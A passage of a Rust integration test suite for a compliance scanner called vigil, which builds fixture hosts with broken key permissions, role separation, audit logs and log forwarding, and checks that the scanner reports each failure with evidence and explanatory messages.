        pol.push_str("\n[[audit_logs]]\nname = \"hsm-audit\"\nformat = \"auditd\"\npath = \"/var/log/hsm/audit.log\"\nretention_days = 365\nmax_silence = \"24h\"\n");
    }
    let policy = b.dir.path().join("policy.toml");
    std::fs::write(&policy, pol).unwrap();
    Fixture {
        root: b.root.clone(),
        policy,
        append_only: std::mem::take(&mut b.append_only),
        _dir: b.dir,
    }
}

pub(crate) struct Scan {
    pub(crate) json: Value,
    pub(crate) exit: i32,
}

pub(crate) fn scan(f: Option<&Fixture>, extra: &[&str]) -> Scan {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_vigil"));
    cmd.args(["scan", BENCH, "--json", "-", "-q"]);
    if let Some(f) = f {
        cmd.arg("--policy")
            .arg(&f.policy)
            .arg("--root")
            .arg(&f.root);
    }
    cmd.args(extra);
    let out = cmd.output().unwrap();
    let json: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    Scan {
        json,
        exit: out.status.code().unwrap_or(-1),
    }
}

impl Scan {
    pub(crate) fn results(&self) -> BTreeMap<String, String> {
        self.json["rules"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                let id = r["id"].as_str().unwrap();
                (
                    id.trim_start_matches("xccdf_dev.vigil_rule_").to_string(),
                    r["result"].as_str().unwrap().to_string(),
                )
            })
            .collect()
    }

    pub(crate) fn rule(&self, short: &str) -> &Value {
        self.json["rules"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["id"] == format!("xccdf_dev.vigil_rule_{short}"))
            .unwrap_or_else(|| panic!("no rule {short}"))
    }

    /// The rule's messages, one a line.
    pub(crate) fn messages(&self, short: &str) -> String {
        let m = self.rule(short)["messages"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        m.iter()
            .filter_map(|m| m.as_str())
            .collect::<Vec<_>>()
            .join("\n")
    }

    /// Every item of the rule's first test's object.
    pub(crate) fn items_of(&self, short: &str) -> Vec<Value> {
        let def = self.rule(short)["checks"][0]["id"]
            .as_str()
            .unwrap()
            .to_string();
        let d = self.json["definitions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["id"] == def)
            .unwrap();
        let criteria = d["criteria"].to_string();
        let tid = criteria
            .split("\"test_ref\":\"")
            .nth(1)
            .and_then(|r| r.split('"').next())
            .unwrap();
        let t = self.json["tests"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["id"] == tid)
            .unwrap();
        let o = self.json["objects"]
            .as_array()
            .unwrap()
            .iter()
            .find(|o| o["id"] == t["object"])
            .unwrap();
        o["items"].as_array().cloned().unwrap_or_default()
    }

    /// The tests the rule's first definition's criteria name, in order.
    pub(crate) fn tests_of(&self, short: &str) -> Vec<&Value> {
        let def = self.rule(short)["checks"][0]["id"]
            .as_str()
            .unwrap()
            .to_string();
        let d = self.json["definitions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["id"] == def)
            .unwrap();
        let mut test_ids = Vec::new();
        fn walk(c: &Value, out: &mut Vec<String>) {
            if let Some(t) = c.get("test_ref").and_then(|t| t.as_str()) {
                out.push(t.to_string());
            }
            for v in c.as_object().into_iter().flat_map(|o| o.values()) {
                if v.is_array() || v.is_object() {
                    for x in v.as_array().cloned().unwrap_or_else(|| vec![v.clone()]) {
                        walk(&x, out);
                    }
                }
            }
        }
        walk(&d["criteria"], &mut test_ids);
        test_ids
            .iter()
            .map(|tid| {
                self.json["tests"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .find(|t| t["id"] == tid.as_str())
                    .unwrap()
            })
            .collect()
    }

    /// The object of test `t` (`None` for a test without one).
    fn object_of(&self, t: &Value) -> Option<&Value> {
        let oid = t["object"].as_str()?;
        self.json["objects"]
            .as_array()
            .unwrap()
            .iter()
            .find(|o| o["id"] == oid)
    }

    /// Every item the rule's tests examined, failing or not.
    pub(crate) fn examined(&self, short: &str) -> Vec<Value> {
        self.tests_of(short)
            .into_iter()
            .filter_map(|t| self.object_of(t))
            .flat_map(|o| o["items"].as_array().cloned().unwrap_or_default())
            .collect()
    }

    /// The items behind a failing rule: those whose state evaluation was false, or
    /// every item of a test that wanted none to exist.
    pub(crate) fn evidence(&self, short: &str) -> Vec<Value> {
        let mut out = Vec::new();
        for t in self.tests_of(short) {
            let Some(o) = self.object_of(t) else {
                continue;
            };
            let items = o["items"].as_array().cloned().unwrap_or_default();
            let res = t["item_results"].as_array().cloned().unwrap_or_default();
            if t["check_existence"] == "none_exist" {
                out.extend(items);
            } else {
                out.extend(
                    items
                        .into_iter()
                        .zip(res)
                        .filter(|(_, r)| r == "false")
                        .map(|(i, _)| i),
                );
            }
        }
        out
    }
}

pub(crate) fn field<'a>(item: &'a Value, name: &str) -> Vec<&'a str> {
    item["fields"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["name"] == name)
        .filter_map(|f| f["value"].as_str())
        .collect()
}

/// Asserts that `rule` failed and that one of its failing items has `name` containing
/// `needle`.
fn assert_fails_with(s: &Scan, rule: &str, name: &str, needle: &str) {
    let r = s.results();
    assert_eq!(
        r.get(rule).map(String::as_str),
        Some("fail"),
        "{rule}: {:?}",
        s.rule(rule)["messages"]
    );
    let ev = s.evidence(rule);
    assert!(
        ev.iter()
            .any(|i| field(i, name).iter().any(|v| v.contains(needle))),
        "{rule}: no failing item with {name} containing '{needle}': {}",
        serde_json::to_string_pretty(&ev).unwrap()
    );
}

/// Rules whose OVAL family another part of vigil collects; until that probe exists they
/// are unknown, never pass or fail by guess.
fn standard_probe_missing(rule: &str) -> bool {
    use vigil_core::content::oval::Family;
    let registry = vigil_host::probes::builtin();
    let (family, kind) = match rule {
        "auditd_rules_watch_audit_config" | "auditd_rules_immutable" => {
            (Family::Independent, "textfilecontent54_object")
        }
        "audit_log_dir_protected" => (Family::Unix, "file_object"),
        "auditd_installed" => (Family::Linux, "dpkginfo_object"),
        _ => return false,
    };
    registry.find(&family, kind).is_none()
}

fn check_expected(s: &Scan, expect: &[(&str, &str)]) {
    let r = s.results();
    for (rule, want) in expect {
        let got = r.get(*rule).map(String::as_str).unwrap_or("(missing)");
        if got == "unknown" && standard_probe_missing(rule) {
            continue;
        }
        assert_eq!(
            got,
            *want,
            "{rule}: messages {:?}",
            s.rule(rule)["messages"]
        );
    }
}

macro_rules! need_root {
    () => {
        crate::testtool::require_root("the key-management fixtures set owners and chattr +a")
    };
}

#[test]
fn compliant_host_passes_every_rule() {
    need_root!();
    let f = build(&[]);
    let s = scan(Some(&f), &[]);
    let r = s.results();
    assert!(r.len() >= 30, "{} rules", r.len());
    // The example site forwards with rsyslog and audisp-remote only: the rule of the
    // other forwarders has nothing to judge, and says so.
    let expect: Vec<(&str, &str)> = r
        .keys()
        .map(|k| match k.as_str() {
            "log_forwarders_configured" => (k.as_str(), "notapplicable"),
            // The example site keeps no copy of its trail's digests and runs one Vault
            // audit device: keymgmt_proofs and keymgmt_lifecycle pass and break those
            // rules.
            "key_lifecycle_in_every_log"
            | "cloudtrail_digest_chain_intact"
            | "cloudtrail_digest_signatures_verified"
            | "cloudtrail_log_files_match_digests"
            | "vault_audit_devices_agree" => (k.as_str(), "notapplicable"),
            _ => (k.as_str(), "pass"),
        })
        .collect();
    check_expected(&s, &expect);
    let msgs = s.rule("log_forwarders_configured")["messages"].to_string();
    assert!(msgs.contains("[siem] via does not name vector"), "{msgs}");
    // Evidence of a pass: the ACL entry the policy allows is seen and accepted.
    let keys = s.json["objects"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["kind"] == "key_object")
        .unwrap();
    let signing = keys["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| field(i, "name") == ["signing"])
        .unwrap();
    assert_eq!(field(signing, "acl_entry"), ["user:vault:r--"]);
    assert_eq!(field(signing, "acl_matches_policy"), ["true"]);
    assert_eq!(field(signing, "curve"), ["P-256"]);
}

#[test]
fn tampered_keys_fail_the_key_rules() {
    need_root!();
    let f = build(KEY_BREAKS);
    let s = scan(Some(&f), &[]);
    assert_eq!(s.exit, 2);
    assert_fails_with(&s, "key_fingerprint_approved", "name", "signing");
    assert_fails_with(&s, "key_permissions", "mode", "0644");
    assert_fails_with(&s, "key_acl", "unexpected_acl_entry", "user:bob:r--");
    assert_fails_with(
        &s,
        "audit_admin_cannot_read_keys",
        "read_reason",
        "ACL user:bob",
    );
    assert_fails_with(
        &s,
        "no_undeclared_private_keys",
        "path",
        "/etc/kms/keys/stray.pem",
    );
    assert_fails_with(&s, "no_undeclared_private_keys", "format", "pem-pkcs1");
    assert_fails_with(
        &s,
        "destroyed_keys_absent",
        "path",
        "/etc/kms/keys/old-signing.pem",
    );
    check_expected(
        &s,
        &[
            ("key_strength", "pass"),
            ("key_present", "pass"),
            ("role_separation", "pass"),
        ],
    );
}

#[test]
fn weak_old_and_expiring_keys_fail() {
    need_root!();
    let f = build(KEY_LIFE_BREAKS);
    let s = scan(Some(&f), &[]);
    assert_fails_with(&s, "key_strength", "key_size", "2048");
    assert_fails_with(&s, "key_age", "age_days", "400");
    assert_fails_with(
        &s,
        "certificate_not_expiring",
        "subject",
        "CN=vault.example.net",
    );
    assert_fails_with(
        &s,
        "certificate_not_expired",
        "not_after",
        "2020-02-01T00:00:00Z",
    );
    assert_fails_with(&s, "key_present", "path", "/etc/kms/keys/backup.key");
    // The fingerprints were taken from the weak key itself: no substitution.
    check_expected(&s, &[("key_fingerprint_approved", "pass")]);

    // The warning window is an XCCDF Value: tailored to 5 days, the 10-day certificate
    // is no longer reported (the expired one still is).
    let s = scan(Some(&f), &["--var", "cert_warning_days=5"]);
    let names: Vec<String> = s
        .evidence("certificate_not_expiring")
        .iter()
        .flat_map(|i| {
            field(i, "name")
                .into_iter()
                .map(String::from)
                .collect::<Vec<_>>()
        })
        .collect();
    assert_eq!(names, ["hsm-root"]);
}

#[test]
fn broken_role_separation_fails() {
    need_root!();
    let f = build(ROLE_BREAKS);
    let s = scan(Some(&f), &[]);
    assert_fails_with(&s, "role_separation", "identity", "bob");
    assert_fails_with(&s, "role_separation", "via_a", "group:keyadmins");
    assert_fails_with(
        &s,
        "audit_admin_cannot_read_keys",
        "read_reason",
        "owning group (keyadmins)",
    );
    assert_fails_with(&s, "sudoers_separation", "command", "/bin/bash");
    assert_fails_with(&s, "role_members_resolve", "identity", "ghost");
    assert_fails_with(
        &s,
        "key_admin_cannot_write_audit_logs",
        "write_reason",
        "ACL user:alice",
    );
    assert_fails_with(
        &s,
        "aws_key_policy_separation",
        "evidence",
        "arn:aws:iam::111122223333:role/KeyAdmin is allowed kms:",
    );
    assert_fails_with(&s, "role_members_active", "identity", "dave");
}

#[test]
fn broken_audit_logs_fail_with_the_offending_records() {
    need_root!();
    let f = build(LOG_BREAKS);
    let s = scan(Some(&f), &[]);
    assert_fails_with(&s, "audit_log_present", "path", "/var/log/hsm/audit.log");
    assert_fails_with(&s, "audit_log_fresh", "name", "cloudtrail-kms");
    assert_fails_with(
        &s,
        "audit_log_record_fields",
        "missing_fields_record",
        "missing identity, outcome",
    );
    assert_fails_with(&s, "audit_log_permissions", "mode", "0644");
    assert_fails_with(&s, "audit_log_append_only", "name", "vault-audit");
    assert_fails_with(
        &s,
        "audit_log_retention",
        "retention_basis",
        "rotate 4 x 7 day(s)",
    );
    assert_fails_with(&s, "vault_audit_not_raw", "raw_record_line", "9");
    assert_fails_with(&s, "siem_forwarding", "target", "logs.elsewhere.example");
    assert_fails_with(
        &s,
        "auditd_watch_key_files",
        "path",
        "/etc/kms/keys/signing.pem",
    );
    assert_fails_with(
        &s,
        "auditd_watch_kms_config",
        "path",
        "/etc/vault.d/vault.hcl",
    );
    assert_fails_with(&s, "no_key_material_in_logs", "kind", "private_key_block");
    assert_fails_with(&s, "no_key_material_in_logs", "evidence", "pin-value=****");
    assert_fails_with(&s, "denied_access_spike", "identity", "carol");
    assert_fails_with(
        &s,
        "denied_access_spike",
        "record",
        "success=no exit=-13 auid=1003",
    );
    assert_fails_with(&s, "destructive_events_allowlisted", "action", "DisableKey");
    assert_fails_with(
        &s,
        "destructive_events_allowlisted",
        "record",
        "\"delete\",\"path\":\"transit/keys/app\"",
    );
    assert_fails_with(
        &s,
        "key_policy_changes_allowlisted",
        "identity",
        "arn:aws:iam::111122223333:role/AppRole",
    );
    // No PIN or key text is copied into the results.
    let text = s.json.to_string();
    assert!(!text.contains("918273") && !text.contains("MC4CAQAwBQYDK2VwBCIEIA"));
    check_expected(
        &s,
        &[
            ("auditd_rules_immutable", "fail"),
            ("auditd_rules_watch_audit_config", "fail"),
        ],
    );

    // A tailored threshold above the spike passes it.
    let s = scan(Some(&f), &["--var", "denied_threshold=10"]);
    check_expected(&s, &[("denied_access_spike", "pass")]);

    // So does the policy's own [detection] threshold, which sets the XCCDF Value...
    let text = std::fs::read_to_string(&f.policy).unwrap();
    std::fs::write(
        &f.policy,
        text.replace("denied_threshold = 5", "denied_threshold = 10"),
    )
    .unwrap();
    let s = scan(Some(&f), &[]);
    check_expected(&s, &[("denied_access_spike", "pass")]);
    // ...unless --var says otherwise.
    let s = scan(Some(&f), &["--var", "denied_threshold=3"]);
    check_expected(&s, &[("denied_access_spike", "fail")]);
}

#[test]
fn outdated_or_modified_software_fails() {
    need_root!();
    let f = build(SOFTWARE_BREAKS);
    let s = scan(Some(&f), &[]);
    assert_fails_with(&s, "software_min_versions", "version", "1.14.0-1");
    assert_fails_with(&s, "kms_integrity", "difference", "sha256");
    assert_fails_with(
        &s,
        "kms_packages_unmodified",
        "changed_file",
        "/usr/share/doc/openssl/copyright",
    );
    assert_fails_with(&s, "siem_forwarding", "forwarder", "rsyslog");
    check_expected(
        &s,
        &[
            ("auditd_installed", "fail"),
            ("audit_log_dir_protected", "fail"),
            ("rsyslog_remote_forwarding", "fail"),
            ("audisp_remote_active", "fail"),
        ],
    );
}

#[test]
fn without_a_policy_the_policy_rules_do_not_apply() {
    need_root!();
    let f = build(&[]);
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_vigil"));
    let out = cmd
        .args(["scan", BENCH, "--json", "-", "-q", "--root"])
        .arg(&f.root)
        .output()
        .unwrap();
    let s = Scan {
        json: serde_json::from_slice(&out.stdout).unwrap(),
        exit: out.status.code().unwrap_or(-1),
    };
    let r = s.results();
    // Discovery finds the keys of the fixture's key places and judges them.
    for rule in ["key_strength", "private_key_readers", "private_key_writers"] {
        assert_eq!(r[rule], "pass", "{rule}: {}", s.messages(rule));
    }
    let found: Vec<String> = s
        .items_of("private_key_readers")
        .iter()
        .flat_map(|i| field(i, "path").into_iter().map(String::from))
        .collect();
    assert!(
        found.contains(&"/etc/kms/keys/signing.pem".to_string()),
        "{found:?}"
    );
    assert!(
        s.items_of("private_key_readers")
            .iter()
            .all(|i| field(i, "source") == ["discovered"])
    );
    // What needs site facts does not apply, and says what would enable it.
    let na: Vec<_> = r.iter().filter(|(_, v)| *v == "notapplicable").collect();
    assert!(na.len() >= 15, "{na:?}");
    for (rule, _) in &na {
        let msgs = s.messages(rule);
        // The forwarders the host does not use say so; the rest name the policy.
        assert!(
            msgs.contains("policy") || msgs.contains("is not configured; events leave the host"),
            "{rule}: {msgs}"
        );
    }
    // The host forwards with both rsyslog and audisp-remote: both are judged.
    check_expected(
        &s,
        &[
            ("rsyslog_remote_forwarding", "pass"),
            ("audisp_remote_active", "pass"),
        ],
    );
    for rule in [
        "role_separation",
        "key_fingerprint_approved",
        "destroyed_keys_absent",
    ] {
        assert_eq!(r[rule], "notapplicable", "{rule}");
        assert!(s.messages(rule).contains("no site policy given (--policy)"));
    }
    assert!(!r.values().any(|v| v == "error"), "{r:?}");
    assert_ne!(s.exit, 1);
}

/// A policy that declares too little for a rule makes the rule `notapplicable` with the
/// field that would give it something to examine (or `unknown` where a fact cannot be
/// established), never a pass over nothing.
#[test]
fn rules_with_nothing_to_examine_say_so_instead_of_passing() {
    need_root!();
    let f = build(&[]);
    let policy = f.policy.with_file_name("thin-policy.toml");
    std::fs::write(
        &policy,
        r#"
[[roles]]
name = "key_admin"
kind = "key_administrator"
unix_users = ["alice"]

[[keys]]
name = "signing"
path = "/etc/kms/keys/signing.pem"

[[audit_logs]]
name = "cloudtrail-kms"
format = "cloudtrail"
path = "/var/log/cloudtrail/kms-events.json"
retention_days = 30
max_silence = "3650d"
"#,
    )
    .unwrap();
    let thin = Fixture {
        root: f.root.clone(),
        policy,
        append_only: Vec::new(),
        _dir: tempfile::tempdir().unwrap(),
    };
    let s = scan(Some(&thin), &[]);
    let r = s.results();
    for (rule, needle) in [
        (
            "destroyed_keys_absent",
            "[[keys]] entry with state = \"destroyed\"",
        ),
        (
            "key_permissions",
            "active [[keys]] entry with owner, group or mode",
        ),
        ("key_fingerprint_approved", "with sha256 or spki_sha256"),
        ("key_age", "with created and max_age_days"),
        ("aws_key_policy_separation", "[[aws_key_policies]]"),
        ("vault_audit_not_raw", "format = \"vault\""),
        ("audit_log_append_only", "append_only = true"),
    ] {
        assert_eq!(
            r[rule],
            "notapplicable",
            "{rule}: {}",
            s.rule(rule)["messages"]
        );
        let msgs = s.messages(rule);
        assert!(
            msgs.contains("nothing to check: the policy declares no") && msgs.contains(needle),
            "{rule}: {msgs}"
        );
    }
    // alice's activity would be in an auditd log, and none is declared: unknown, with why.
    assert_eq!(r["role_members_active"], "unknown");
    let msgs = s.messages("role_members_active");
    assert!(
        msgs.contains("no [[audit_logs]] source records unix_user activity (format auditd)"),
        "{msgs}"
    );
    // With no declared minimum the key is still judged, against SP 800-131A's.
    assert_eq!(r["key_strength"], "pass");
    let key = &s.items_of("key_strength")[0];
    assert_eq!(
        field(key, "min_size_source"),
        ["NIST SP 800-131A Rev. 2 minimum"]
    );
}

/// Rewrites the fixture's `[siem] via` and replaces its forwarding configuration:
/// `remove` are host paths deleted, `add` host files written.
pub(crate) fn refit_forwarding(f: &Fixture, via: &str, remove: &[&str], add: &[(&str, &str)]) {
    let text = std::fs::read_to_string(&f.policy).unwrap();
    let old = "via = [\"rsyslog\", \"audisp-remote\"]";
    assert!(text.contains(old));
    std::fs::write(&f.policy, text.replace(old, &format!("via = {via}"))).unwrap();
    for p in remove {
        std::fs::remove_file(f.root.join(p.trim_start_matches('/'))).unwrap();
    }
    for (p, data) in add {
        let p = f.root.join(p.trim_start_matches('/'));
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, data).unwrap();
    }
}

fn message_of(s: &Scan, rule: &str) -> String {
    s.rule(rule)["messages"].to_string()
}

/// Issue 16: the site's `[siem] via` decides which forwarders apply; a site that
/// forwards with one forwarder is not failed for another.
#[test]
fn forwarding_follows_the_sites_via() {
    need_root!();
    const AUDISP: [&str; 2] = [
        "/etc/audit/plugins.d/au-remote.conf",
        "/etc/audit/audisp-remote.conf",
    ];
    // An rsyslog-only site.
    let f = build(&[]);
    refit_forwarding(&f, "[\"rsyslog\"]", &AUDISP, &[]);
    let s = scan(Some(&f), &[]);
    check_expected(
        &s,
        &[
            ("siem_forwarding", "pass"),
            ("rsyslog_remote_forwarding", "pass"),
            ("audisp_remote_active", "notapplicable"),
            ("log_forwarders_configured", "notapplicable"),
        ],
    );
    let m = message_of(&s, "audisp_remote_active");
    assert!(m.contains("[siem] via does not name audisp-remote"), "{m}");

    // An audisp-remote-only site.
    let f = build(&[]);
    refit_forwarding(
        &f,
        "[\"audisp-remote\"]",
        &["/etc/rsyslog.d/60-siem.conf"],
        &[],
    );
    let s = scan(Some(&f), &[]);
    check_expected(
        &s,
        &[
            ("siem_forwarding", "pass"),
            ("rsyslog_remote_forwarding", "notapplicable"),
            ("audisp_remote_active", "pass"),
        ],
    );

    // A Vector site: the sink to the SIEM passes, rsyslog and audisp-remote do not apply.
    let f = build(&[]);
    let mut remove = vec!["/etc/rsyslog.d/60-siem.conf"];
    remove.extend(AUDISP);
    refit_forwarding(
        &f,
        "[\"vector\"]",
        &remove,
        &[(
            "/etc/vector/vector.toml",
            "[sources.journal]\ntype = \"journald\"\n\n[sinks.siem]\ntype = \"socket\"\ninputs = [\"journal\"]\nmode = \"tcp\"\naddress = \"siem.example.net:6514\"\n",
        )],
    );
    std::os::unix::fs::symlink(
        "/lib/systemd/system/vector.service",
        f.root
            .join("etc/systemd/system/multi-user.target.wants/vector.service"),
    )
    .unwrap();
    let s = scan(Some(&f), &[]);
    check_expected(
        &s,
        &[
            ("siem_forwarding", "pass"),
            ("log_forwarders_configured", "pass"),
            ("rsyslog_remote_forwarding", "notapplicable"),
            ("audisp_remote_active", "notapplicable"),
        ],
    );
    // The same site with the sink pointing elsewhere: forwarding to the SIEM fails,
    // naming the sink; the forwarder itself still sends off the host.
    std::fs::write(
        f.root.join("etc/vector/vector.toml"),
        "[sinks.siem]\ntype = \"socket\"\nmode = \"tcp\"\naddress = \"logs.elsewhere.example:6514\"\n",
    )
    .unwrap();
    let s = scan(Some(&f), &[]);
    assert_fails_with(
        &s,
        "siem_forwarding",
        "target",
        "logs.elsewhere.example:6514/tcp (/etc/vector/vector.toml:1 (sink siem))",
    );
    check_expected(&s, &[("log_forwarders_configured", "pass")]);
    // Not enabled: the forwarder rule fails, naming the forwarder.
    std::fs::remove_file(
        f.root
            .join("etc/systemd/system/multi-user.target.wants/vector.service"),
    )
    .unwrap();
    let s = scan(Some(&f), &[]);
    assert_fails_with(&s, "log_forwarders_configured", "forwarder", "vector");

    // A host that forwards nothing, without a policy: every forwarder rule fails.
    let f = build(&[]);
    let mut remove = vec!["/etc/rsyslog.d/60-siem.conf"];
    remove.extend(AUDISP);
    refit_forwarding(&f, "[\"rsyslog\"]", &remove, &[]);
    let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["scan", BENCH, "--json", "-", "-q", "--root"])
        .arg(&f.root)
        .output()
        .unwrap();
    let s = Scan {
        json: serde_json::from_slice(&out.stdout).unwrap(),
        exit: out.status.code().unwrap_or(-1),
    };
    assert_fails_with(&s, "rsyslog_remote_forwarding", "configured", "false");
    assert_fails_with(&s, "audisp_remote_active", "configured", "false");
    assert_fails_with(&s, "log_forwarders_configured", "forwarder", "vector");
    check_expected(&s, &[("siem_forwarding", "notapplicable")]);
}

#[test]
fn a_bad_policy_stops_the_scan_with_its_position() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("policy.toml");
    std::fs::write(&p, "[[keys]]\nname = \"k\"\npath = \"/k\"\nmode = \"rw\"\n").unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["scan", BENCH, "-q", "--policy"])
        .arg(&p)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("policy.toml:4:8: keys[0].mode"), "{err}");
}

#[test]
fn plain_scan_runs_the_bundled_benchmark_and_says_what_did_not_apply() {
    // `vigil scan` with no arguments: the bundled benchmark, this host, no policy.
    let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .arg("scan")
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_ne!(out.status.code(), Some(1), "{text}");
    assert!(
        text.contains("key-management audit (CSA CCM v4 LOG-11)"),
        "{text}"
    );
    assert!(
        text.contains("rules not applicable: nothing to check: no site policy given (--policy)"),
        "{text}"
    );
    assert!(
        text.contains("`vigil policy init` writes a starter policy"),
        "{text}"
    );
    assert!(
        text.contains("xccdf_dev.vigil_rule_role_separation"),
        "{text}"
    );

    let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["scan", "--json", "-", "-q"])
        .output()
        .unwrap();
    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
    let ms = json["scan"]["duration_ms"].as_u64().unwrap();
    assert!(ms < 1000, "the bundled benchmark took {ms} ms");
    assert!(json["rules"].as_array().unwrap().len() >= 30);
}

/// The bundled OVAL without vigil's own families: what the OVAL 5.11 schema and oscap
/// know. Relies on the generated layout (one element per indented block).
fn standard_oval() -> String {
    let text = std::fs::read_to_string(BENCH.replace("xccdf.xml", "oval.xml")).unwrap();
    let mut out = String::new();
    let mut vigil_ids = Vec::new();
    let mut skipping = false;
    for line in text.lines() {
        if line.starts_with("    <vigil:") {
            if let Some(id) = line.split("id=\"").nth(1).and_then(|r| r.split('"').next()) {
                vigil_ids.push(id.to_string());
            }
            skipping = !line.ends_with("/>");
            continue;
        }
        if skipping {
            skipping = !line.starts_with("    </vigil:");
            continue;
        }
        out.push_str(line);
        out.push('\n');
    }
    // Drop the definitions that use a vigil test, and the variables (only vigil uses them).
    let mut result = String::new();
    let mut block = String::new();
    let mut in_def = false;
    let mut in_vars = false;
    for line in out.lines() {
        if line.starts_with("  <variables>") {
            in_vars = true;
        }
        if in_vars {
            in_vars = !line.starts_with("  </variables>");
            continue;
        }
        if line.starts_with("    <definition ") {
            in_def = true;
            block.clear();
        }
        if in_def {
            block.push_str(line);
            block.push('\n');
            if line.starts_with("    </definition>") {
                in_def = false;
                if !vigil_ids
                    .iter()
                    .any(|id| block.contains(&format!("\"{id}\"")))
                {
                    result.push_str(&block);
                }
            }
            continue;
        }
        result.push_str(line);
        result.push('\n');
    }
    result
}

#[test]
fn standard_checks_validate_and_agree_with_oscap() {
    need_root!();
    crate::testtool::require("oscap");
    let dir = tempfile::tempdir().unwrap();
    let std_oval = dir.path().join("standard-oval.xml");
    std::fs::write(&std_oval, standard_oval()).unwrap();
    let v = crate::tool("oscap")
        .args(["oval", "validate"])
        .arg(&std_oval)
        .output()
        .unwrap();
    assert!(
        v.status.success(),
        "{}{}",
        String::from_utf8_lossy(&v.stdout),
        String::from_utf8_lossy(&v.stderr)
    );

    for breaks in [&[][..], STANDARD_BREAKS] {
        let f = build(breaks);
        let out = crate::tool("oscap")
            .env("OSCAP_PROBE_ROOT", &f.root)
            .args(["oval", "eval"])
            .arg(&std_oval)
            .output()
            .unwrap();
        let theirs: BTreeMap<String, String> = String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter_map(|l| l.strip_prefix("Definition "))
            .filter_map(|l| l.split_once(": "))
            .map(|(id, r)| (id.to_string(), r.trim().to_string()))
            .collect();
        assert!(
            theirs.len() >= 4,
            "{theirs:?} {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let s = scan(Some(&f), &[]);
        // oscap's dpkginfo probe goes through libapt, which reports nothing installed
        // from a root holding only var/lib/dpkg/status: that definition is compared
        // with dpkg's own view in the probe's tests instead.
        let dpkg_def = s.rule("auditd_installed")["checks"][0]["id"]
            .as_str()
            .unwrap()
            .to_string();
        for (id, want) in theirs.iter().filter(|(id, _)| **id != dpkg_def) {
            let d = s.json["definitions"]
                .as_array()
                .unwrap()
                .iter()
                .find(|d| d["id"] == id.as_str())
                .unwrap();
            assert_eq!(d["result"].as_str().unwrap(), want, "{id} with {breaks:?}");
        }
    }
}

/// Issue 12: every rule that does not pass says why. Every rule of the bundled
/// benchmark is walked on this machine and the report fixture root (with and without
/// the example policy) and on every fixture host the tests above build (with its
/// policy and without one); a fail, error, unknown, not applicable or not checked
/// result with no message, a blank message or a control character in one fails.
#[test]
fn every_rule_that_does_not_pass_says_why() {
    let report_root = super::fixture("report/root");
    let report_root = report_root.to_str().unwrap();
    let mut scans: Vec<(String, Scan)> = vec![
        ("this host, no policy".into(), scan(None, &[])),
        (
            "this host, example policy".into(),
            scan(None, &["--policy", EXAMPLE_POLICY]),
        ),
        (
            "report fixture root, no policy".into(),
            scan(None, &["--root", report_root]),
        ),
        (
            "report fixture root, example policy".into(),
            scan(None, &["--root", report_root, "--policy", EXAMPLE_POLICY]),
        ),
    ];
    need_root!();
    for (name, breaks) in FIXTURE_HOSTS {
        let f = build(breaks);
        scans.push((format!("{name}, its policy"), scan(Some(&f), &[])));
        let root = f.root.to_str().unwrap();
        scans.push((format!("{name}, no policy"), scan(None, &["--root", root])));
    }
    let mut silent = Vec::new();
    let mut explained = 0;
    for (name, s) in &scans {
        let rules = s.json["rules"].as_array().unwrap();
        assert!(rules.len() >= 30, "{name}: {} rules", rules.len());
        for r in rules {
            let result = r["result"].as_str().unwrap();
            if !matches!(
                result,
                "fail" | "error" | "unknown" | "notapplicable" | "notchecked"
            ) {
                continue;
            }
            let messages: Vec<&str> = r["messages"]
                .as_array()
                .unwrap()
                .iter()
                .map(|m| m.as_str().unwrap())
                .collect();
            let bad = messages.is_empty()
                || messages
                    .iter()
                    .any(|m| m.trim().is_empty() || m.chars().any(char::is_control));
            if bad {
                silent.push(format!("{name}: {result} {}: {messages:?}", r["id"]));
            }
            explained += 1;
        }
    }
    assert!(silent.is_empty(), "{}", silent.join("\n"));
    assert!(explained > 0);

    // The sentence names the test, the object's item and the fact that decided it.
    if let Some((_, s)) = scans
        .iter()
        .find(|(n, _)| n == "broken audit logs, its policy")
    {
        let msgs = s.rule("audit_log_present")["messages"].to_string();
        assert!(
            msgs.contains("(audit-log sources exist)")
                && msgs.contains("/var/log/hsm/audit.log")
                && msgs.contains("exists is 'false', expected 'true'"),
            "{msgs}"
        );
    }
}

/// The integrity rule reads the baseline `vigil baseline create` writes: it passes on
/// the files as recorded and fails, naming the difference, once one of them changes.
/// (A live scan of a temporary tree: `vigil baseline` records paths as this machine
/// sees them, so the tree is not under a `--root`.)
#[test]
fn integrity_rule_reads_a_vigil_baseline() {
    let d = tempfile::tempdir().unwrap();
    let tree = d.path().join("kms");
    std::fs::create_dir_all(tree.join("bin")).unwrap();
    std::fs::create_dir_all(tree.join("etc")).unwrap();
    let (binary, config) = (tree.join("bin/vault"), tree.join("etc/vault.hcl"));
    std::fs::write(&binary, b"\x7fELF vault").unwrap();
